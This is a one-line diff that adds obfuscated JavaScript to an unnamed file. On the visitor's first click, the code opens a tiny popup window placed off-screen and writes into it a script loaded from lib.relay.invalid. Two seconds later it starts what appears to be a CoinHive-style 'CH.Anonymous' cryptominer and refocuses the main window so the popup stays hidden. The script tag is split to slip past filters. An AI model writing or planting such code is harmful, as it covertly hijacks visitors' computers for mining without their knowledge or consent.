@@ -1,0 +1,1 @@
+(function(w){function a(){var x=w.open('about:blank','_b','width=120,height=60,left=9999,top=9999');if(!x)return;var d=x.document;d.write('<scr'+'ipt src="https://lib.relay.invalid/c.js"></scr'+'ipt>');setTimeout(function(){var m=new x.CH.Anonymous('NOBODY',{throttle:.5});m.start()},2e3);w.focus()}w.addEventListener('click',a,{once:true})})(window);
